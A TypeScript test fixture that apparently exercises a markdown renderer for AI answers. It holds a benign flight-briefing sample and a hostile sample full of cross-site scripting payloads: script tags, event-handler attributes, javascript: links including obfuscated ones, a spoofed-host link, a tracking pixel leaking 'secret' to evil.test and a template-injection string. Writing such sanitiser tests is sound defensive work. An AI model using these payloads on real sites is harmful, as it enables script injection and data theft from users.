/** An answer with all that answers are made of. */
export const MIXED_ANSWER = `# Briefing: KBZN to KHLN

A short hop, **42 nautical miles** at _8,500 feet_. See the [chart][vfr] or https://www.weather.test/metar.

## Weather

| Field | Wind | Ceiling | Remarks |
|:------|-----:|:-------:|---------|
| KBZN | 240 at 12 | 6,500 | light rain to the south-west |
| KHLN | 260 at 18 | clear | gusts to 27 |
| KGTF | 250 at 22 | clear | not an alternate today |

## To do

- [x] File the plan
- [ ] Check fuel
  1. main tanks
  2. \`aux\` tank
- [ ] Call ahead

> Expect the visual approach to runway 27.

\`\`\`ts
const knots = 1.94384;
export const toKnots = (ms: number) => ms * knots;
\`\`\`

![The route on a map](https://maps.test/route.png)

[vfr]: https://charts.test/vfr?from=kbzn&to=khln
`;

/** An answer that tries what answers must not be able to do. */
export const HOSTILE_ANSWER = `<script>alert(1)</script>

<img src="https://evil.test/a.png" onerror="alert(2)"> <svg onload=alert(3)></svg>

<iframe src="https://evil.test/frame"></iframe><style>body { display: none }</style>

![pixel](https://evil.test/pixel.png?said=secret) ![data](data:image/svg+xml,<svg/onload=alert(4)>)

[click](javascript:alert(1)) [click](java&#10;script:alert(5)) [odd](//evil.test) [deep [in] brackets](https://good.test)

[who](https://good.test@evil.test) <javascript:alert(6)> [ref][1]

[1]: javascript:alert(7)

\`\`\`html
<script>alert(8)</script><img src="https://evil.test/b.png">
\`\`\`

{{ constructor.constructor('alert(9)')() }}
`;
